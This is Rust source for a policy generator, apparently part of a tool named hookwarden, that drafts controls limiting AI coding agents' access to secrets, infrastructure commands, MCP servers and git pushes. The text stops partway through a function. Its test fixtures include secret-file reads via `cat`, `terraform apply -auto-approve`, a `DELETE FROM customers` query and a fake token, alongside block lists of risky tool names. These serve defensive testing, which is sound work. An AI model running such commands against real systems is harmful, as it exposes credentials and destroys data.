//! Draft generation: a candidate policy from an evaluation, in the normal policy language.
//!
//! Every proposed control is evidence-led: it exists only when the evaluation shows what it
//! protects (a secret file, an MCP server that can post to Slack, a recorded `terraform apply`)
//! and carries that evidence as `[rule.lineage]`. The risk class and an org preset decide each
//! control's effect; the use-case context adds lists, exceptions (`unless`) and activation.
//! Each control comes with `[[test]]`s, checked here against the draft itself, so the file
//! passes `hookwarden policy test` as written. The output is TOML meant to be read and edited:
//! a comment block per control says what it addresses, where it applies, when, and how well
//! each target runtime can enforce it.

use crate::decision::{Effect, Lineage, Mode};
use crate::evaluate::exposure::{Category, ExposureItem};
use crate::evaluate::{Capability, Evaluation};
use crate::event::Boundary;
use crate::policy::model::{Activation, Condition, OneOrMany, PolicyTest};
use crate::runtime::coverage::Level;
use serde::Deserialize;
use std::collections::{BTreeMap, BTreeSet};
use std::fmt::Write as _;
use std::path::Path;

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum RiskClass {
    Low,
    Medium,
    High,
}

impl RiskClass {
    pub fn parse(s: &str) -> Option<RiskClass> {
        Some(match s.to_ascii_lowercase().as_str() {
            "low" => RiskClass::Low,
            "medium" | "med" => RiskClass::Medium,
            "high" => RiskClass::High,
            _ => return None,
        })
    }

    pub fn as_str(self) -> &'static str {
        match self {
            RiskClass::Low => "low",
            RiskClass::Medium => "medium",
            RiskClass::High => "high",
        }
    }
}

/// Control families: the unit presets and context address.
pub const FAMILIES: &[(&str, &str)] = &[
    (
        "secrets",
        "reading secret files, keys and files with credentials",
    ),
    ("secrets_write", "writing secret files"),
    ("secrets_output", "secrets in tool output"),
    ("sensitive_data", "the use case's sensitive data paths"),
    ("infra", "infrastructure apply/destroy commands"),
    ("infra_edit", "editing infrastructure code"),
    ("ci_cd", "editing CI/CD definitions"),
    ("migrations", "editing database migrations"),
    (
        "sensitive_code",
        "editing auth, payment code and production configs",
    ),
    (
        "external_comms",
        "MCP tools that post, send or change things other people see",
    ),
    ("data_store", "MCP data-store servers"),
    ("deploy_mcp", "MCP deployment/infra servers"),
    ("exec_mcp", "MCP servers that execute code or reach secrets"),
    ("egress", "network downloads and fetches to untrusted hosts"),
    ("egress_upload", "uploads to untrusted hosts"),
    ("git_push", "pushing to remotes"),
];

/// The strictness table: effect of each family per risk class.
fn default_effect(family: &str, risk: RiskClass) -> Effect {
    use Effect::*;
    use RiskClass::*;
    let (l, m, h) = match family {
        "secrets" => (Deny, Deny, Deny),
        "secrets_write" => (Ask, Deny, Deny),
        "secrets_output" => (Redact, Redact, Redact),
        "sensitive_data" => (Ask, Deny, Deny),
        "infra" => (Alert, Ask, Deny),
        "infra_edit" => (Alert, Alert, Ask),
        "ci_cd" => (Alert, Ask, Ask),
        "migrations" => (Alert, Alert, Ask),
        "sensitive_code" => (Alert, Alert, Ask),
        "external_comms" => (Alert, Ask, Ask),
        "data_store" => (Alert, Ask, Ask),
        "deploy_mcp" => (Ask, Ask, Deny),
        "exec_mcp" => (Alert, Ask, Ask),
        "egress" => (Alert, Alert, Ask),
        "egress_upload" => (Alert, Ask, Deny),
        "git_push" => (Alert, Alert, Ask),
        _ => (Alert, Alert, Alert),
    };
    match risk {
        Low => l,
        Medium => m,
        High => h,
    }
}

/// An org preset: effects per family, for every risk class or for one.
#[derive(Debug, Clone, Default, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Preset {
    #[serde(default)]
    pub preset: PresetMeta,
    /// Family -> effect, for every risk class.
    #[serde(default)]
    pub effects: BTreeMap<String, Effect>,
    /// `[risk.high] egress = "deny"`: per risk class, over `effects`.
    #[serde(default)]
    pub risk: BTreeMap<String, BTreeMap<String, Effect>>,
}

#[derive(Debug, Clone, Default, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct PresetMeta {
    #[serde(default)]
    pub name: String,
    /// Who approves `ask` effects.
    #[serde(default)]
    pub approver_role: Option<String>,
    /// `audit` starts the policy in record-only mode.
    #[serde(default)]
    pub mode: Option<Mode>,
}

/// A TOML input file that failed to load, with where and why.
#[derive(Debug, thiserror::Error)]
pub enum InputError {
    #[error("cannot read {path}: {message}")]
    Io { path: String, message: String },
    #[error("{path}: {message}")]
    Invalid { path: String, message: String },
}

fn load_toml<T: for<'de> Deserialize<'de>>(path: &Path) -> Result<T, InputError> {
    let p = path.display().to_string();
    let text = std::fs::read_to_string(path).map_err(|e| InputError::Io {
        path: p.clone(),
        message: e.to_string(),
    })?;
    toml::from_str(&text).map_err(|e| {
        let (line, col) = e
            .span()
            .map(|s| crate::policy::line_col(&text, s.start))
            .unwrap_or((1, 1));
        InputError::Invalid {
            path: format!("{p}:{line}:{col}"),
            message: e.message().to_string(),
        }
    })
}

fn check_families<'a>(
    path: &Path,
    names: impl Iterator<Item = &'a String>,
) -> Result<(), InputError> {
    for n in names {
        if !FAMILIES.iter().any(|(f, _)| f == n) {
            return Err(InputError::Invalid {
                path: path.display().to_string(),
                message: format!(
                    "unknown control family `{n}` (known: {})",
                    FAMILIES
                        .iter()
                        .map(|(f, _)| *f)
                        .collect::<Vec<_>>()
                        .join(", ")
                ),
            });
        }
    }
    Ok(())
}

impl Preset {
    pub fn load(path: &Path) -> Result<Preset, InputError> {
        let p: Preset = load_toml(path)?;
        check_families(path, p.effects.keys())?;
        for (class, m) in &p.risk {
            if RiskClass::parse(class).is_none() {
                return Err(InputError::Invalid {
                    path: path.display().to_string(),
                    message: format!("unknown risk class `{class}` (low, medium, high)"),
                });
            }
            check_families(path, m.keys())?;
        }
        Ok(p)
    }

    fn effect(&self, family: &str, risk: RiskClass) -> Option<Effect> {
        self.risk
            .get(risk.as_str())
            .and_then(|m| m.get(family))
            .or_else(|| self.effects.get(family))
            .copied()
    }
}

/// The use-case context: what the agent is for and what it may touch.
#[derive(Debug, Clone, Default, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct UseCase {
    #[serde(default)]
    pub name: Option<String>,
    #[serde(default)]
    pub description: Option<String>,
    /// What the agent is expected to do; quoted in the draft for the reviewer.
    #[serde(default)]
    pub expected_behaviour: Vec<String>,
    #[serde(default)]
    pub sensitive_data: SensitiveData,
    #[serde(default)]
    pub trusted: Trusted,
    /// Business exceptions: an `unless` for one control.
    #[serde(default, rename = "exception")]
    pub exceptions: Vec<Exception>,
    /// Family -> when its controls apply.
    #[serde(default)]
    pub activation: BTreeMap<String, Activation>,
}

#[derive(Debug, Clone, Default, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct SensitiveData {
    /// Globs of paths holding sensitive data (`data/customers/**`).
    #[serde(default)]
    pub paths: Vec<String>,
    /// What the data is (for the reviewer and the reason shown to the model).
    #[serde(default)]
    pub description: Option<String>,
}

#[derive(Debug, Clone, Default, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Trusted {
    /// Hosts the agent may contact (`api.stripe.com`, `*.internal.example.com`).
    #[serde(default)]
    pub hosts: Vec<String>,
}

#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Exception {
    /// The control id (`draft.comms.github`) or family (`external_comms`) it applies to.
    pub control: String,
    pub reason: String,
    /// Where the control does not apply, in the policy's condition language.
    pub unless: Condition,
}

impl UseCase {
    pub fn load(path: &Path) -> Result<UseCase, InputError> {
        let u: UseCase = load_toml(path)?;
        check_families(path, u.activation.keys())?;
        for (i, e) in u.exceptions.iter().enumerate() {
            if e.reason.trim().is_empty() {
                return Err(InputError::Invalid {
                    path: path.display().to_string(),
                    message: format!("exception #{} for `{}` has no reason", i + 1, e.control),
                });
            }
        }
        Ok(u)
    }
}

pub struct DraftInput<'a> {
    pub evaluation: &'a Evaluation,
    pub evaluation_path: String,
    pub risk: RiskClass,
    pub preset: Option<&'a Preset>,
    pub context: Option<&'a UseCase>,
    pub context_path: Option<String>,
}

pub struct DraftOutput {
    pub text: String,
    pub controls: usize,
    pub tests: usize,
    pub warnings: Vec<String>,
}

#[derive(Debug, thiserror::Error)]
pub enum DraftError {
    #[error(
        "the generated draft does not parse ({0}); this is a hookwarden bug, please report it"
    )]
    Generated(String),
}

/// One proposed control, before rendering.
#[derive(Debug, Clone)]
struct Control {
    id: String,
    family: &'static str,
    /// The risk it addresses.
    addresses: String,
    applies_to: String,
    check: String,
    effect: Effect,
    boundary: Boundary,
    risk: u8,
    description: String,
    reason: String,
    when: Condition,
    unless: Option<Condition>,
    unless_note: Option<String>,
    activation: Option<Activation>,
    evidence: Vec<String>,
    notes: Vec<String>,
    tests: Vec<PolicyTest>,
}

fn one(s: &str) -> Option<OneOrMany> {
    Some(OneOrMany::One(s.to_string()))
}

fn many(v: &[&str]) -> Option<OneOrMany> {
    Some(OneOrMany::Many(v.iter().map(|s| s.to_string()).collect()))
}

fn test(name: &str) -> PolicyTest {
    PolicyTest {
        name: name.to_string(),
        ..PolicyTest::default()
    }
}

/// A `**/`-anchored glob for a repo-relative path, so it matches wherever the repo is checked out.
fn anywhere(rel: &str) -> String {
    if rel.starts_with('/') || rel.starts_with("**") {
        rel.to_string()
    } else {
        format!("**/{rel}")
    }
}

/// A concrete repo-relative path a glob matches, for a test.
fn sample_for(glob: &str) -> String {
    let g = glob.trim_start_matches("**/").trim_start_matches('/');
    let s = g
        .replace("**", "sample")
        .replace('*', "sample")
        .replace('?', "x");
    if s.ends_with('/') || s.is_empty() {
        format!("{s}sample.txt")
    } else if s.ends_with("sample") && !g.contains('.') {
        format!("{s}.txt")
    } else {
        s
    }
}

struct Builder<'a> {
    input: &'a DraftInput<'a>,
    controls: Vec<Control>,
    lists: BTreeMap<String, Vec<String>>,
    warnings: Vec<String>,
}

impl<'a> Builder<'a> {
    fn effect(&self, family: &str) -> Effect {
        self.input
            .preset
            .and_then(|p| p.effect(family, self.input.risk))
            .unwrap_or_else(|| default_effect(family, self.input.risk))
    }

    #[allow(clippy::too_many_arguments)]
    fn control(
        &mut self,
        id: &str,
        family: &'static str,
        addresses: &str,
        applies_to: &str,
        check: &str,
        boundary: Boundary,
        risk: u8,
        reason: &str,
        when: Condition,
        evidence: Vec<String>,
        tests: Vec<PolicyTest>,
    ) -> Option<&mut Control> {
        if evidence.is_empty() {
            return None;
        }
        let effect = self.effect(family);
        if effect == Effect::Allow {
            self.warnings.push(format!(
                "control `{id}` is not drafted: the preset sets `{family}` to allow"
            ));
            return None;
        }
        let activation = self
            .input
            .context
            .and_then(|c| c.activation.get(family))
            .cloned();
        let mut evidence = evidence;
        evidence.sort();
        evidence.dedup();
        self.controls.push(Control {
            id: id.to_string(),
            family,
            addresses: addresses.to_string(),
            applies_to: applies_to.to_string(),
            check: check.to_string(),
            effect,
            boundary,
            risk,
            description: addresses.to_string(),
            reason: reason.to_string(),
            when,
            unless: None,
            unless_note: None,
            activation,
            evidence,
            notes: Vec::new(),
            tests,
        });
        self.controls.last_mut()
    }
}

/// Generates the draft policy text.
pub fn generate(input: &DraftInput) -> Result<DraftOutput, DraftError> {
    let mut b = Builder {
        input,
        controls: Vec::new(),
        lists: BTreeMap::new(),
        warnings: Vec::new(),
    };
    let ev = input.evaluation;
    if let Some(ctx) = input.context {
        if !ctx.trusted.hosts.is_empty() {
            b.lists
                .insert("trusted_hosts".into(), ctx.trusted.hosts.clone());
        }
    }
    secrets_controls(&mut b, ev);
    sensitive_data_control(&mut b);
    change_controls(&mut b, ev);
    mcp_controls(&mut b, ev);
    egress_controls(&mut b, ev);
    git_controls(&mut b, ev);
    apply_exceptions(&mut b);

    // A draft is tested two ways: alone (`policy test FILE`) and over the default policy it
    // will be layered on (`policy validate`, deployment). The strictest effect wins when
    // layered, so a control weaker than a default rule for the same action is raised to match:
    // the file then means what it will do, and its tests hold both ways.
    let text = render(input, &b.controls, &b.lists, ev);
    let (_, layered) = compile_both(&text)?;
    for c in &mut b.controls {
        let mut raised_by: BTreeSet<String> = BTreeSet::new();
        let mut strictest = c.effect;
        for t in c.tests.iter().filter(|t| t.fires.contains(&c.id)) {
            let d = crate::policy::testing::decide(&layered, &crate::policy::testing::event_for(t));
            if d.rule_ids.contains(&c.id)
                && d.would_effect > strictest
                && c.effect != Effect::Redact
            {
                strictest = d.would_effect;
                raised_by.extend(
                    d.fired
                        .iter()
                        .filter(|f| f.effect == d.would_effect && f.rule_id != c.id)
                        .map(|f| f.rule_id.clone()),
                );
            }
        }
        if strictest > c.effect {
            c.notes.push(format!(
                "effect raised from {} to {}: the default policy's {} already gives {} here, and the strictest effect wins",
                c.effect,
                strictest,
                raised_by.iter().map(|r| format!("`{r}`")).collect::<Vec<_>>().join(", "),
                strictest
            ));
            c.effect = strictest;
        }
    }
    let text = render(input, &b.controls, &b.lists, ev);
    let (alone, layered) = compile_both(&text)?;
    for c in &mut b.controls {
        let id = c.id.clone();
        let mut kept = Vec::new();
        for mut t in std::mem::take(&mut c.tests) {
            let ev_t = crate::policy::testing::event_for(&t);
            let d1 = crate::policy::testing::decide(&alone, &ev_t);
            let d2 = crate::policy::testing::decide(&layered, &ev_t);
            let ok = |d: &crate::decision::Decision| {
                t.fires.iter().all(|r| d.rule_ids.contains(r))
                    && t.not_fires.iter().all(|r| !d.rule_ids.contains(r))
            };
            if ok(&d1) && ok(&d2) && d1.would_effect == d2.would_effect {
                t.expect = d1.would_effect;
                kept.push(t);
            } else if !ok(&d1) {
                b.warnings.push(format!(
                    "test `{}` of `{id}` dropped: the control {} in the test environment (check its activation or exceptions)",
                    t.name,
                    if t.fires.contains(&id) { "does not fire" } else { "fires" }
                ));
            } else {
                b.warnings.push(format!(
                    "test `{}` of `{id}` dropped: over the default policy it gets {} ({}), alone {}",
                    t.name,
                    d2.would_effect,
                    d2.rule_ids.join(", "),
                    d1.would_effect
                ));
            }
        }
        if kept.is_empty() {
            b.warnings.push(format!(
                "control `{id}` has no test; add one when you review it"
            ));
        }
        c.tests = kept;
    }
    let text = render(input, &b.controls, &b.lists, ev);
    compile_both(&text)?;
    let tests = b.controls.iter().map(|c| c.tests.len()).sum();
    Ok(DraftOutput {
        text,
        controls: b.controls.len(),
        tests,
        warnings: b.warnings,
    })
}

/// The draft alone, and layered over the embedded default policy as a project policy.
fn compile_both(
    text: &str,
) -> Result<(crate::policy::CompiledPolicy, crate::policy::CompiledPolicy), DraftError> {
    let layer =
        crate::policy::parse_layer(crate::policy::Scope::Project, "<draft>", text.to_string())
            .map_err(|e| DraftError::Generated(e.to_string()))?;
    let alone = crate::policy::compile(std::slice::from_ref(&layer))
        .map_err(|e| DraftError::Generated(e.to_string()))?;
    let default =
        crate::policy::default_layer().map_err(|e| DraftError::Generated(e.to_string()))?;
    let layered = crate::policy::compile(&[default, layer])
        .map_err(|e| DraftError::Generated(e.to_string()))?;
    Ok((alone, layered))
}

fn ids(items: &[&ExposureItem]) -> Vec<String> {
    items.iter().map(|i| i.id.clone()).collect()
}

fn secrets_controls(b: &mut Builder, ev: &Evaluation) {
    let x = &ev.exposure;
    let files: Vec<&ExposureItem> = x
        .items
        .iter()
        .filter(|i| matches!(i.category, Category::SecretFile | Category::PrivateKey))
        .collect();
    let observed: Vec<String> = ev
        .observed
        .sensitive_paths
        .iter()
        .map(|c| c.id.clone())
        .collect();
    let mut evidence = ids(&files);
    evidence.extend(observed.iter().cloned());
    let mut tests = Vec::new();
    let env_file = files
        .iter()
        .find(|i| i.classes.iter().any(|c| c == "env_file"));
    let key = files.iter().find(|i| {
        i.category == Category::PrivateKey && i.classes.iter().any(|c| c == "private_key")
    });
    for i in [env_file, key].into_iter().flatten() {
        let mut t = test(&format!("agent reads {}", i.path));
        t.read = Some(i.path.clone());
        t.fires = vec!["draft.secrets.read-secret-files".into()];
        tests.push(t);
        let mut t = test(&format!("shell reads {}", i.path));
        t.command = Some(format!("cat {}", i.path));
        t.fires = vec!["draft.secrets.read-secret-files".into()];
        tests.push(t);
    }
    if tests.is_empty() {
        let mut t = test("agent reads .env");
        t.read = Some(".env".into());
        t.fires = vec!["draft.secrets.read-secret-files".into()];
        tests.push(t);
    }
    let mut t = test("example env files stay readable");
    t.read = Some(".env.example".into());
    t.not_fires = vec!["draft.secrets.read-secret-files".into()];
    tests.push(t);
    b.control(
        "draft.secrets.read-secret-files",
        "secrets",
        "Secret files and private keys in this repo entering the model's context, from where they reach logs and other services.",
        "file read/search tools of every runtime, MCP file tools, shell reads (cat, head, tail, less)",
        "a path the tool touches has class `secret_file` (env files, private keys, cloud credentials, tfstate)",
        Boundary::ToolRequest,
        80,
        "Reading secret files is blocked by the reviewed policy. Use the example file or ask the user for the variable names you need, never their values.",
        Condition {
            flag: many(&["file.read", "file.search"]),
            paths_any: Some(vec!["secret_file".into()]),
            ..Condition::default()
        },
        evidence.clone(),
        tests,
    );

    // Config files with credentials written in them are not secret files by name.
    let mut cred_globs: Vec<String> = x
        .of(Category::SecretInConfig)
        .map(|i| anywhere(&i.path))
        .collect();
    let mut cred_evidence: Vec<String> = x
        .of(Category::SecretInConfig)
        .map(|i| i.id.clone())
        .collect();
    for s in &ev.inventory.mcp_servers {
        if s.inline_credentials.is_empty() {
            continue;
        }
        cred_evidence.push(s.id.clone());
        for f in &s.declared_in {
            if !f.starts_with('~') && !f.starts_with('$') && !f.starts_with('/') {
                let g = anywhere(f);
                if !cred_globs.contains(&g) {
                    cred_globs.push(g);
                }
            }
        }
    }
    if !cred_globs.is_empty() {
        cred_globs.sort();
        let mut tests = Vec::new();
        let mut t = test(&format!("agent reads {}", sample_for(&cred_globs[0])));
        t.read = Some(sample_for(&cred_globs[0]));
        t.fires = vec!["draft.secrets.read-config-with-credentials".into()];
        tests.push(t);
        b.lists.insert("files_with_credentials".into(), cred_globs);
        b.control(
            "draft.secrets.read-config-with-credentials",
            "secrets",
            "Config files with credentials written inline: reading them puts the credential in the model's context.",
            "file read/search tools, MCP file tools, shell reads",
            "a path the tool touches matches the list `files_with_credentials`",
            Boundary::ToolRequest,
            80,
            "This file holds credentials; reading it is blocked. Move the credential to the environment and refer to it by name.",
            Condition {
                flag: many(&["file.read", "file.search"]),
                path_glob: one("@files_with_credentials"),
                ..Condition::default()
            },
            cred_evidence.clone(),
            tests,
        );
    }

    if !files.is_empty() {
        let target = env_file
            .map(|i| i.path.clone())
            .unwrap_or_else(|| ".env".into());
        let mut t = test(&format!("agent writes {target}"));
        t.write = Some(target);
        t.content = Some("DEBUG=1".into());
        t.fires = vec!["draft.secrets.write-secret-files".into()];
        b.control(
            "draft.secrets.write-secret-files",
            "secrets_write",
            "An agent overwriting secret files or keys: lost credentials, or credentials planted for later use.",
            "file write/edit/patch tools of every runtime",
            "a written path has class `secret_file`",
            Boundary::ToolRequest,
            75,
            "Changing secret files needs a person. Tell the user which variable to set instead.",
            Condition {
                flag: one("file.write"),
                paths_any: Some(vec!["secret_file".into()]),
                ..Condition::default()
            },
            ids(&files),
            vec![t],
        );
    }

    let mut out_evidence = evidence;
    out_evidence.extend(cred_evidence);
    if ev.observed.secret_outputs > 0 {
        out_evidence.push("obs:secret-output".into());
    }
    let mut t = test("a token in tool output is masked");
    // A fake GitHub token shape, so the test exercises the secret signal.
    t.output = Some("GITHUB_TOKEN=ghp_R8t2Kq9ZxW4mVb7NcL1pYh6Jd3Fg5Ts0Qa2E".into());
    t.fires = vec!["draft.secrets.redact-tool-output".into()];
    let mut t2 = test("ordinary output passes");
    t2.output = Some("test result: ok. 42 passed; 0 failed".into());
    t2.not_fires = vec!["draft.secrets.redact-tool-output".into()];
    b.control(
        "draft.secrets.redact-tool-output",
        "secrets_output",
        "Credentials in tool output (a cat of a config, printenv, a failing test) reaching the model.",
        "every tool's output, after it runs",
        "the secret signal finds a credential in the output (`secret.detected`)",
        Boundary::ToolOutput,
        60,
        "Secrets in the tool output were masked. Refer to them by name; do not try to recover them.",
        Condition {
            flag: one("secret.detected"),
            ..Condition::default()
        },
        out_evidence,
        vec![t, t2],
    );
}

fn sensitive_data_control(b: &mut Builder) {
    let Some(ctx) = b.input.context else { return };
    if ctx.sensitive_data.paths.is_empty() {
        return;
    }
    let globs: Vec<String> = ctx
        .sensitive_data
        .paths
        .iter()
        .map(|g| anywhere(g))
        .collect();
    let sample = sample_for(&globs[0]);
    b.lists.insert("sensitive_data".into(), globs);
    let what = ctx
        .sensitive_data
        .description
        .clone()
        .unwrap_or_else(|| "sensitive data named by the use case".into());
    let mut t = test(&format!("agent reads {sample}"));
    t.read = Some(sample.clone());
    t.fires = vec!["draft.data.sensitive-paths".into()];
    let mut t2 = test(&format!("shell reads {sample}"));
    t2.command = Some(format!("head {sample}"));
    t2.fires = vec!["draft.data.sensitive-paths".into()];
    b.control(
        "draft.data.sensitive-paths",
        "sensitive_data",
        &format!("Access to {what}."),
        "file read/search/write tools, MCP file tools, shell reads",
        "a path the tool touches matches the list `sensitive_data` (from the use-case context)",
        Boundary::ToolRequest,
        80,
        "These files hold data the use case marks as sensitive; the agent may not open them. Ask the user for a sanitized sample.",
        Condition {
            flag: many(&["file.read", "file.search", "file.write"]),
            path_glob: one("@sensitive_data"),
            ..Condition::default()
        },
        vec!["context:sensitive_data.paths".into()],
        vec![t, t2],
    );
}

fn dir_glob(rel: &str) -> String {
    match rel.rsplit_once('/') {
        Some((dir, _)) => anywhere(&format!("{dir}/**")),
        None => anywhere(rel),
    }
}

/// Drops `**/a/b/**` when `**/a/**` is in the set: one reviewable line per place.
fn drop_covered(globs: BTreeSet<String>) -> Vec<String> {
    let dirs: Vec<String> = globs
        .iter()
        .filter_map(|g| g.strip_suffix("**").map(String::from))
        .collect();
    globs
        .iter()
        .filter(|g| {
            !dirs
                .iter()
                .any(|d| g.len() > d.len() + 2 && g.starts_with(d.as_str()))
        })
        .cloned()
        .collect()
}

fn change_controls(b: &mut Builder, ev: &Evaluation) {
    let x = &ev.exposure;
    let infra: Vec<&ExposureItem> = x.of(Category::InfraCode).collect();
    let deploy_mcp: Vec<String> = ev
        .inventory
        .mcp_servers
        .iter()
        .filter(|s| s.labels.contains(&Capability::DeploymentInfra))
        .map(|s| s.id.clone())
        .collect();
    const INFRA_PROGRAMS: &[&str] = &[
        "terraform",
        "tofu",
        "terragrunt",
        "pulumi",
        "kubectl",
        "helm",
    ];
    let observed_infra: Vec<String> = ev
        .observed
        .commands
        .iter()
        .filter(|c| INFRA_PROGRAMS.contains(&c.name.split(' ').next().unwrap_or("")))
        .map(|c| c.id.clone())
        .collect();
    let mut evidence = ids(&infra);
    evidence.extend(deploy_mcp);
    evidence.extend(observed_infra);
    let mut tests = Vec::new();
    for cmd in [
        "terraform apply -auto-approve",
        "kubectl apply -f k8s/deployment.yaml",
    ] {
        let mut t = test(&format!("`{cmd}`"));
        t.command = Some(cmd.into());
        t.fires = vec!["draft.infra.apply".into()];
        tests.push(t);
    }
    let mut t = test("`terraform plan` is a read");
    t.command = Some("terraform plan".into());
    t.not_fires = vec!["draft.infra.apply".into()];
    tests.push(t);
    b.control(
        "draft.infra.apply",
        "infra",
        "An agent changing live infrastructure (apply, destroy, deploy) from a coding session.",
        "shell tools: terraform/tofu/terragrunt/pulumi/kubectl/helm",
        "program is an infra CLI and the subcommand changes state (apply, destroy, import, up, delete, install, upgrade, ...)",
        Boundary::ToolRequest,
        85,
        "Changing infrastructure needs approval. Show the plan (terraform plan, kubectl diff) and ask the user to apply it.",
        Condition {
            program: many(INFRA_PROGRAMS),
            subcommand: many(&[
                "apply", "destroy", "import", "up", "delete", "create", "replace", "patch", "scale",
                "rollout", "install", "upgrade", "uninstall", "taint", "state",
            ]),
            ..Condition::default()
        },
        evidence,
        tests,
    );

    let mut infra_globs: BTreeSet<String> = BTreeSet::new();
    for i in &infra {
        let lower = i.path.to_ascii_lowercase();
        // `**.tf`, not `**/*.tf`: the core glob matcher loses the `**` backtrack point after a
        // later `*`, so `**/*.tf` misses nested paths.
        if lower.ends_with(".tf") {
            infra_globs.insert("**.tf".into());
        } else if lower.ends_with(".tfvars") {
            infra_globs.insert("**.tfvars".into());
        } else if i.path.contains('/') {
            infra_globs.insert(dir_glob(&i.path));
        } else {
            infra_globs.insert(anywhere(&i.path));
        }
    }
    let infra_globs = drop_covered(infra_globs);
    write_control(
        b,
        "draft.infra.edit-code",
        "infra_edit",
        "infra_paths",
        infra_globs,
        &infra,
        "Agent edits to infrastructure code, which change what the next apply does.",
        50,
        "Edits to infrastructure code are reviewed. Describe the change to the user.",
    );

    let ci: Vec<&ExposureItem> = x.of(Category::CiCd).collect();
    let ci_globs = drop_covered(ci.iter().map(|i| dir_glob(&i.path)).collect());
    write_control(
        b,
        "draft.ci.edit-pipelines",
        "ci_cd",
        "ci_paths",
        ci_globs,
        &ci,
        "Agent edits to CI/CD definitions: pipelines run with deploy credentials and secrets.",
        60,
        "CI/CD definitions run with deployment credentials; changes need approval. Propose the change to the user.",
    );

    let mig: Vec<&ExposureItem> = x.of(Category::Migration).collect();
    let mig_globs = drop_covered(mig.iter().map(|i| dir_glob(&i.path)).collect());
    write_control(
        b,
        "draft.db.edit-migrations",
        "migrations",
        "migration_paths",
        mig_globs,
        &mig,
        "Agent-written or edited database migrations, which change production data when deployed.",
        55,
        "Database migrations change production data; they are reviewed. Explain the migration to the user.",
    );

    let code: Vec<&ExposureItem> = x
        .items
        .iter()
        .filter(|i| {
            matches!(
                i.category,
                Category::AuthCode | Category::PaymentCode | Category::ProductionConfig
            )
        })
        .collect();
    let mut code_globs: Vec<String> = code.iter().map(|i| anywhere(&i.path)).collect();
    code_globs.sort();
    code_globs.dedup();
    write_control(
        b,
        "draft.code.edit-sensitive",
        "sensitive_code",
        "sensitive_code",
        code_globs,
        &code,
        "Agent edits to authentication, payment code and production configs, where a subtle change is a security or money incident.",
        45,
        "This file is security- or money-sensitive; the change is flagged for review.",
    );
}

#[allow(clippy::too_many_arguments)]
fn write_control(
    b: &mut Builder,
    id: &str,
    family: &'static str,
    list: &str,
    globs: Vec<String>,
    items: &[&ExposureItem],
    addresses: &str,
    risk: u8,
    reason: &str,
) {
    if globs.is_empty() || items.is_empty() {
        return;
    }
    // The test writes a file the evaluation found, so it checks the glob against real paths.
    let target = items[0].path.clone();
    let mut t = test(&format!("agent edits {target}"));
    t.write = Some(target);
    t.content = Some("# change".into());
    t.fires = vec![id.to_string()];
    let mut t2 = test("an ordinary source file");
    t2.write = Some("docs/notes-from-review.md".into());
    t2.content = Some("notes".into());
    t2.not_fires = vec![id.to_string()];
    b.lists.insert(list.to_string(), globs);
    b.control(
        id,
        family,
        addresses,
        "file write/edit/patch tools of every runtime, MCP file tools",
        &format!("a written path matches the list `{list}`"),
        Boundary::ToolRequest,
        risk,
        reason,
        Condition {
            flag: one("file.write"),
            path_glob: one(&format!("@{list}")),
            ..Condition::default()
        },
        ids(items),
        vec![t, t2],
    );
}

/// Tool-name globs of MCP tools that change or send something.
const WRITE_TOOLS: &[&str] = &[
    "create*",
    "update*",
    "delete*",
    "merge*",
    "push*",
    "send*",
    "post*",
    "reply*",
    "add*",
    "fork*",
    "close*",
    "comment*",
    "*_create*",
    "*_update*",
    "*_delete*",
    "*_post*",
    "*_send*",
    "*_reply*",
    "*_merge*",
    "*_push*",
];

fn mcp_controls(b: &mut Builder, ev: &Evaluation) {
    for s in &ev.inventory.mcp_servers {
        let mut evidence = vec![s.id.clone()];
        evidence.extend(
            ev.observed
                .mcp_calls
                .iter()
                .filter(|c| c.name.split('/').next() == Some(s.name.as_str()))
                .map(|c| c.id.clone()),
        );
        let slug = crate::evaluate::id_part(&s.name).replace(['/', '@', '.'], "-");
        let name = s.name.as_str();
        let tool_name = |t: &str| format!("mcp__{name}__{t}");
        let auto = if s.auto_approved.is_empty() {
            String::new()
        } else {
            format!(
                " Its config lets {} run without asking.",
                s.auto_approved.join(", ")
            )
        };
        let labels: Vec<&str> = s.labels.iter().map(|c| c.as_str()).collect();
        if s.labels.contains(&Capability::ExternalCommunication) {
            let id = format!("draft.comms.{slug}");
            let write_tool = s
                .tools
                .iter()
                .find(|t| {
                    WRITE_TOOLS
                        .iter()
                        .any(|g| crate::policy::glob::matches(g, t))
                })
                .cloned()
                .unwrap_or_else(|| "create_issue".into());
            let read_tool = s
                .tools
                .iter()
                .find(|t| {
                    !WRITE_TOOLS
                        .iter()
                        .any(|g| crate::policy::glob::matches(g, t))
                })
                .cloned()
                .unwrap_or_else(|| "search".into());
            let mut t = test(&format!("{name}: {write_tool}"));
            t.tool = Some(tool_name(&write_tool));
            t.tool_input = Some(toml::Value::Table(toml::map::Map::new()));
            t.fires = vec![id.clone()];
            let mut t2 = test(&format!("{name}: {read_tool} reads"));
            t2.tool = Some(tool_name(&read_tool));
            t2.tool_input = Some(toml::Value::Table(toml::map::Map::new()));
            t2.not_fires = vec![id.clone()];
            if let Some(c) = b.control(
                &id,
                "external_comms",
                &format!("MCP server `{name}` ({}) posting, sending or changing things other people see.{auto}", labels.join(", ")),
                &format!("MCP tools of `{name}` whose names create, update, delete, merge, push, send, post or reply"),
                "mcp_server and an mcp_tool name glob",
                Boundary::ToolRequest,
                70,
                &format!("Actions through `{name}` that others see need approval. Draft the message or change and show it to the user."),
                Condition {
                    mcp_server: one(name),
                    mcp_tool: many(WRITE_TOOLS),
                    ..Condition::default()
                },
                evidence.clone(),
                vec![t, t2],
            ) {
                c.notes.push("MCP tool names differ by runtime (Claude/Codex `mcp__server__tool`, Gemini `mcp_server_tool`, Cursor `MCP:tool`); mcp_server/mcp_tool match the parsed parts".into());
            }
        }
        if s.labels.contains(&Capability::DataStore) {
            let id = format!("draft.data.{slug}");
            let tool = s.tools.first().cloned().unwrap_or_else(|| "query".into());
            let mut t = test(&format!("{name}: {tool}"));
            t.tool = Some(tool_name(&tool));
            let mut input = toml::map::Map::new();
            input.insert(
                "sql".into(),
                toml::Value::String("DELETE FROM customers".into()),
            );
            t.tool_input = Some(toml::Value::Table(input));
            t.fires = vec![id.clone()];
            b.control(
                &id,
                "data_store",
